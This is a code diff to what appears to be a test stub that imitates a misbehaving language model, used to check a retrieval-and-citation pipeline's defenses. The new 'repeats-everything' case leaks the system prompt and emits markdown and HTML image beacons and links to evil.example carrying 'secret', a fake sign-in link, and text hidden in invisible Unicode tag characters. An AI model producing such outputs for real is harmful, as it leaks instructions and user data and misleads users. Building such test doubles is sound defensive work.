@@ -11,6 +11,7 @@ export type Manner =
   | 'swaps-a-name'
   | 'denies'
   | 'links-away'
+  | 'repeats-everything'
   | 'says-nothing'
   | 'cuts-the-stream'
   | 'stalls'
@@ -84,7 +85,7 @@ export async function startMisbehavingLlm() {
   }
 }
 
-function reply(manner: Manner, { user }: Prompt): string {
+function reply(manner: Manner, { system, user }: Prompt): string {
   const passages = [...user.matchAll(/<passage-(\S+) number="(\d+)">\n([\s\S]*?)\n<\/passage-\1>/g)].map(
     ([, , , text]) => {
       const lines = (text as string).split('\n').filter((line) => !/^(Title|Section|Updated): /.test(line))
@@ -111,11 +112,32 @@ function reply(manner: Manner, { user }: Prompt): string {
       return quote(1).length > 0 ? `It is not true that ${quote(1)} [1].` : first
     case 'links-away':
       return `${first} See [the details](https://evil.example/?q=secret) [1]. ![x](https://evil.example/pixel.png) [1]`
+    case 'repeats-everything':
+      // As if it obeyed every order at once: what it read, what it was told, where to go, and what nobody sees.
+      return [
+        first,
+        ...passages.flatMap((passage, index) => sentencesOf(passage).map((one) => `${one} [${index + 1}].`)),
+        ...sentencesOf(system).map((one) => `${one} [1].`),
+        `${quote(1)} ![x](https://evil.example/pixel.png?q=secret) [1].`,
+        `${quote(1)} <img src="https://evil.example/pixel.png"> [1].`,
+        `${quote(1)} See https://evil.example/sign-in [1].`,
+        `${quote(1)} [here](https://evil.example/sign-in) [1].`,
+        `${quote(1)}${invisibly('SMUGGLED')} [1].`,
+      ].join(' ')
     case 'says-nothing':
       return ''
     default:
       return first
   }
+}
+
+function sentencesOf(text: string): string[] {
+  return text.split(/(?<=[.!?。])\s|\n/).map((one) => one.trim().replace(/[.]$/, ''))
+}
+
+/** In tag characters, which no font shows and many models read. */
+export function invisibly(text: string): string {
+  return [...text].map((letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join('')
 }
 
 function* pieces(text: string): Generator<string> {
